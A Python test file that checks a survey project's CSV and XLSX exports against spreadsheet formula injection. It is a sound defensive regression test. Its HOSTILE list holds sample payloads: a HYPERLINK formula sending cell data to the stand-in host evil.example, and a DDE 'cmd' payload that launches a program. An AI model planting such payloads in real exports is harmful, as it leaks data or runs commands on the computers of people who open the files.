"""Issue 15: labels and answers starting with ``=``, ``+``, ``-``, ``@`` were live formulas in exports.

Every CSV and XLSX writer of the project is fed hostile cells (and hostile column names) and read
back: no cell of an XLSX is a formula, every CSV cell a spreadsheet would evaluate starts with ``'``.
"""

from __future__ import annotations

import csv
import io
import zipfile

import pandas as pd
import pytest
from openpyxl import load_workbook

from analysis import report_tables
from forms.values import FORMULA_STARTS
from forms.values import formula_safe
from server.reports import exports
from server.web import tables

HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0", "-2+3",
           "@SUM(1,1)", "\t=1+1", "\r=1+1"]


def _frame() -> pd.DataFrame:
    return pd.DataFrame({"answer": HOSTILE, "=label": ["ok"] * len(HOSTILE), "n": range(-3, 3)})


def _assert_csv_safe(text: str) -> None:
    rows = list(csv.reader(io.StringIO(text, newline="")))
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if c.startswith(FORMULA_STARTS) and not c.lstrip("-").isdigit()], cells
    assert "'" + HOSTILE[0] in cells and "'=label" in cells
    assert "-3" in cells  # numbers stay numbers


def _assert_xlsx_safe(data: bytes) -> None:
    book = load_workbook(io.BytesIO(data))
    cells = [c for sheet in book for row in sheet.iter_rows() for c in row]
    assert cells and not [c.value for c in cells if c.data_type == "f"]
    assert HOSTILE[0] in [c.value for c in cells]  # kept as the text the enumerator typed


def test_formula_safe():
    assert [formula_safe(v) for v in HOSTILE] == ["'" + v.replace("\r", "\n") for v in HOSTILE]
    assert formula_safe("a\r=1+1") == "a\n=1+1"  # quoted by every CSV writer, never a row of its own
    assert formula_safe("Ninh Kiều") == "Ninh Kiều" and formula_safe(-3) == -3 and formula_safe(None) is None


def test_respondent_export_csv_and_xlsx():
    _assert_csv_safe("".join(exports.csv_chunks(_frame())))
    buffer = io.BytesIO()
    exports.write_workbook({"respondents": _frame()}, buffer)
    _assert_xlsx_safe(buffer.getvalue())


def test_report_page_downloads():
    _assert_csv_safe(tables.to_csv(_frame()).decode("utf-8"))
    _assert_xlsx_safe(tables.to_xlsx({"t": _frame()}))


def test_report_files_written_by_the_cli(tmp_path):
    from server.cli.report import write_tables

    write_tables(tmp_path / "t.csv", {"t": _frame()}, title="t")
    text = (tmp_path / "t.csv").read_text(encoding="utf-8")
    assert text.startswith("\ufeff")
    _assert_csv_safe(text.removeprefix("\ufeff"))
    write_tables(tmp_path / "t.xlsx", {"t": _frame()}, title="t")
    _assert_xlsx_safe((tmp_path / "t.xlsx").read_bytes())


@pytest.fixture
def hostile_report(monkeypatch):
    # the tables of either choice (as shown, or codes) and the about sheet, all hostile
    monkeypatch.setattr(report_tables, "_tables", lambda report, lang, codes: (
        {"table": _frame()}, [["=title", "@note"]]))


def test_gap_report_xlsx_and_csv_zip(hostile_report):
    buffer = io.BytesIO()
    report_tables.write_xlsx(None, buffer, language="en")
    _assert_xlsx_safe(buffer.getvalue())
    buffer = io.BytesIO()
    report_tables.write_csv_zip(None, buffer, language="en")
    with zipfile.ZipFile(buffer) as archive:
        _assert_csv_safe(archive.read("table.csv").decode("utf-8"))
        assert archive.read("about.csv").decode("utf-8-sig").strip() == "'=title,'@note"
